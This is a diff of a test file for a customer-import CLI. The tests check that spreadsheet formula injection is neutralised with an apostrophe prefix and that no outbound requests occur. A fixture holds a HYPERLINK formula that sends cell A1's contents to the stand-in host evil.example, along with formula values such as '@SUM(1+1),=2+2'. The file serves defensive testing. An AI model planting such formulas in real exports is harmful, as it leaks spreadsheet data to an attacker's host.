@@ -20,7 +20,7 @@ useSandboxPerFile({ login: true }, (ready) => ({ sandbox, configDir } = ready));
 const header =
   'documentType;document;name;username;phone;password;customerRegistrationAddress.zipcode;customerRegistrationAddress.number';
 const hostileName = '=HYPERLINK("http://evil.example/?"&A1;"clique")';
-const hostileRow = `cpf;012.345.678-90;"${hostileName.replaceAll('"', '""')}";@SUM(1+1);11987654321;Senha#2001;01310-100;100`;
+const hostileRow = `cpf;012.345.678-90;"${hostileName.replaceAll('"', '""')}";@SUM(1+1),=2+2;11987654321;Senha#2001;01310-100;100`;
 const validRow = 'cpf;529.982.247-25;Bia;bia@example.com;11987654321;Senha#2002;01310-100;101';
 
 describe('formula injection', () => {
@@ -31,7 +31,8 @@ describe('formula injection', () => {
     expect(result.code).toBe(65);
     const rows = parse(result.stdout) as string[][];
     const values = rows.slice(1).map((row) => row[3]);
-    expect(values).toContain("'@SUM(1+1)");
+    // The piece after the comma is guarded too: a reader splitting this `,` file at `;` (or the other way) sees text.
+    expect(values).toContain("'@SUM(1+1),'=2+2");
     expect(rows.flat().some((cell) => /^[=+@]/.test(cell))).toBe(false);
     expect(await requestCounts(sandbox)).toEqual({});
   });
@@ -47,9 +48,9 @@ describe('formula injection', () => {
     const text = readFileSync(join(dir, errors[0] as string), 'utf8').replace(/^\uFEFF/, '');
     const [, row] = parse(text, { delimiter: ';' }) as string[][];
     expect(row?.[2]).toBe(`'${hostileName}`);
-    expect(row?.[3]).toBe("'@SUM(1+1)");
+    expect(row?.[3]).toBe("'@SUM(1+1),'=2+2");
     const again = await runCli(['customer', 'validate', errors[0] as string], { configDir, cwd: dir });
-    expect(`${again.stdout}${again.stderr}`).not.toContain("'@SUM");
-    expect(again.stdout).toContain('with value [@SUM(1+1)]');
+    expect(`${again.stdout}${again.stderr}`).not.toMatch(/'@SUM|'=2/);
+    expect(again.stdout).toContain('with value [@SUM(1+1),=2+2]');
   });
 });
